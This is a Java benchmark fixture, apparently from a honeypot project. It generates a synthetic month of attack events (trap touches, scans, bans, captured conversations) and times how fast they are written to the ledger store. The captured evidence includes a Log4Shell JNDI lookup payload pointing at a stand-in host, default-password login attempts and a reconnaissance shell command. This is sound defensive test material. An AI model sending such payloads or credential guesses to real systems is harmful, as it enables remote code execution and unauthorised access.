// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.ledger;

import io.honeymesh.api.Ban;
import io.honeymesh.api.Captured;
import io.honeymesh.api.Contribution;
import io.honeymesh.api.Conversation;
import io.honeymesh.api.Decision;
import io.honeymesh.api.Endpoint;
import io.honeymesh.api.Enforcement;
import io.honeymesh.api.Evidence;
import io.honeymesh.api.EvidenceGrade;
import io.honeymesh.api.Fingerprint;
import io.honeymesh.api.Flow;
import io.honeymesh.api.IpAddress;
import io.honeymesh.api.NodeEvent;
import io.honeymesh.api.Reason;
import io.honeymesh.api.Scan;
import io.honeymesh.api.Subject;
import io.honeymesh.api.Touch;
import io.honeymesh.api.Transport;
import io.honeymesh.api.Verdict;
import java.io.IOException;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SplittableRandom;

/**
 * A ledger as thirty days of attacks leave it, written through the real store. A few sources come often and most come once; the
 * seed is fixed, so that each run writes the same but for the times.
 */
public final class BigLedger {

    private static final int BATCH = 500;
    private static final Duration MONTH = Duration.ofDays(30);
    private static final int[] PORTS = {22, 23, 80, 443, 21, 3389, 445, 6379, 3306, 5900, 8080, 25};
    private static final String[] TRAPS = {
        "ssh", "telnet", "http", "https", "ftp", "rdp", "smb", "redis", "mysql", "vnc", "http", "smtp"
    };
    private static final Contribution TOUCHED = new Contribution("trap-touch", 1, Reason.TRAP, false, "touched a trap");
    private static final Contribution LOG_IN =
            new Contribution("trap-intent", 1, Reason.CREDENTIAL, true, "3 login attempts, the first: root/123456");
    private static final Contribution EXPLOIT =
            new Contribution("payload-pattern", 1, Reason.PAYLOAD, true, "Log4Shell: ${jndi:ldap://198.51.100.1/a}");
    private static final Contribution TOOL =
            new Contribution("known-tool", 0.5, Reason.FINGERPRINT, false, "zgrab2, by its JA4 (scanner)");

    private final SplittableRandom random = new SplittableRandom(4711);
    private final Instant begin;
    private final Duration span;
    private final int events;
    private final List<Ban> bans;
    private int made;

    /** @param bans how many are in force */
    public BigLedger(int events, int bans) {
        this(events, bans, MONTH);
    }

    /** @param span in which the events came, up to now */
    BigLedger(int events, int bans, Duration span) {
        this.events = events;
        this.span = span;
        begin = Instant.now().minus(span);
        this.bans = new ArrayList<>();
        for (int i = 0; i < bans; i++) {
            Instant since = Instant.now().minusSeconds(random.nextInt(86_400));
            Reason reason = Reason.values()[i % 2 == 0 ? 0 : 6];
            this.bans.add(new Ban(
                    Subject.host(source(i)), Map.of(reason, since.plus(Duration.ofHours(30))), since, 1, true, ""));
        }
    }

    /**
     * Writes it into an empty folder, as {@code data/ledger} of a node is one.
     *
     * @return how long the writing took
     */
    public Duration write(Path folder) throws IOException, SQLException, LedgerRefused {
        long nanos = 0;
        try (Store store = Store.open(new LedgerFolder(folder), Sqlite::connect)) {
            JournalImage image = new JournalImage();
            bans.forEach(ban -> image.put(ban, Instant.now()));
            store.write(image.take(), List.of(), Instant.now());
            while (made < events) {
                List<NodeEvent> batch = new ArrayList<>();
                while (batch.size() < Math.min(BATCH, events)) {
                    batch.add(next());
                }
                long start = System.nanoTime();
                List<PendingEvent> pending = new ArrayList<>();
                for (NodeEvent event : batch) {
                    pending.add(PendingEvent.of(0, event, 0));
                }
                store.write(JournalRows.Changes.NONE, pending, Instant.now());
                nanos += System.nanoTime() - start;
            }
        }
        return Duration.ofNanos(nanos);
    }

    NodeEvent next() {
        return event(made++);
    }

    private NodeEvent event(int number) {
        Instant at = begin.plusMillis(span.toMillis() * number / events);
        IpAddress source = source(often());
        int trap = Math.min(random.nextInt(TRAPS.length), random.nextInt(TRAPS.length));
        boolean claimed = random.nextInt(10) == 0;
        Flow flow = new Flow(
                claimed ? Transport.UDP : Transport.TCP,
                new Endpoint(source, 1024 + random.nextInt(60_000)),
                new Endpoint(IpAddress.parse("192.0.2.1"), claimed ? 161 : PORTS[trap]));
        Touch touch = new Touch(
                number + 1,
                at,
                claimed ? "snmp" : TRAPS[trap],
                flow,
                claimed ? EvidenceGrade.CLAIMED : EvidenceGrade.PROVEN);
        return switch (random.nextInt(20)) {
            case 0, 1, 2, 3, 4, 5 -> conversed(touch);
            case 6 -> scanned(source, at);
            case 7 ->
                new NodeEvent.BanChanged(
                        at,
                        NodeEvent.BanChanged.Change.PLACED,
                        ban(source, at, Reason.TRAP),
                        "touched a trap",
                        Enforcement.ENFORCED);
            default ->
                new NodeEvent.Touched(
                        new Verdict(touch, List.of(TOUCHED), List.of()),
                        touch,
                        new Decision.Banned(ban(source, at, Reason.TRAP), Enforcement.ENFORCED));
        };
    }

    private NodeEvent conversed(Touch touch) {
        boolean exploit = random.nextInt(4) == 0;
        List<Evidence> evidence = exploit
                ? List.of(new Evidence.Request(Captured.of("GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1")))
                : List.of(
                        credential("root", "123456"),
                        credential("admin", "admin" + random.nextInt(1000)),
                        new Evidence.Command(Captured.of("uname -a; cat /proc/cpuinfo")));
        Conversation conversation = new Conversation(
                touch,
                touch.at(),
                Captured.EMPTY,
                Captured.EMPTY,
                312,
                901,
                evidence,
                Conversation.Ending.CLIENT,
                false,
                Optional.empty());
        List<Contribution> said = exploit ? List.of(EXPLOIT, TOOL) : List.of(LOG_IN);
        return new NodeEvent.Conversed(
                new Verdict(conversation, said, shown(touch)),
                conversation,
                new Decision.Banned(
                        ban(touch.source(), touch.at(), exploit ? Reason.PAYLOAD : Reason.CREDENTIAL),
                        Enforcement.ENFORCED));
    }

    /** Some programs are used by most. */
    private List<Fingerprint> shown(Touch touch) {
        int program = random.nextInt(1 + random.nextInt(200));
        return switch (touch.trap()) {
            case "https" -> List.of(program(Fingerprint.JA4, program), program(Fingerprint.JA3, program));
            case "ssh" -> List.of(program(Fingerprint.HASSH, program));
            default -> List.of();
        };
    }

    private static Fingerprint program(String kind, int number) {
        String digits = String.format("%012x", 0x5deece66dL * (number + 1));
        return new Fingerprint(
                kind,
                kind.equals(Fingerprint.JA4)
                        ? "t13d1516h2_" + digits + "_" + digits
                        : digits + digits.repeat(2).substring(4));
    }

    /** The source that comes {@code rank}th most often. */
    public static String often(int rank) {
        return source(rank).toString();
    }

    /** The JA4 that most sources show. */
    public static String oftenShown() {
        return program(Fingerprint.JA4, 0).value();
    }

    private static Evidence credential(String user, String secret) {
        return new Evidence.Credential("password", Captured.of(user), Captured.of(secret));
    }

    private static NodeEvent scanned(IpAddress source, Instant at) {
        Scan scan = new Scan(
                at,
                source,
                EvidenceGrade.CLAIMED,
                Scan.Kind.FAST,
                24,
                1,
                Duration.ofSeconds(3),
                new Endpoint(IpAddress.parse("192.0.2.1"), 22),
                Duration.ofSeconds(60));
        return new NodeEvent.Scanned(
                new Verdict(scan, List.of(), List.of()), scan, new Decision.Spared(Decision.Cause.SCORE, "low"));
    }

    private static Ban ban(IpAddress source, Instant at, Reason reason) {
        return new Ban(
                Subject.host(source), Map.of(reason, at.plus(Duration.ofHours(24))), at, 1, reason != Reason.TRAP, "");
    }

    /** Most numbers seldom, small ones often. */
    private int often() {
        double chosen = random.nextDouble();
        return (int) (chosen * chosen * chosen * chosen * 300_000);
    }

    /** Of the shared address space and of the space for benchmarks (RFC 6598, RFC 2544): nobody's. */
    static IpAddress source(int number) {
        int spread = number * 7919 & 0x3fffff;
        return IpAddress.parse("100." + (64 + (spread >> 16)) + "." + (spread >> 8 & 255) + "." + (spread & 255));
    }

    /** {@code BigLedger FOLDER EVENTS BANS}: writes one, and says how fast. */
    public static void main(String[] words) throws Exception {
        int events = Integer.parseInt(words[1]);
        Duration took = new BigLedger(events, Integer.parseInt(words[2])).write(Path.of(words[0]));
        System.out.println(
                events + " events in " + took.toMillis() + " ms, " + events * 1000L / took.toMillis() + " a second");
    }
}
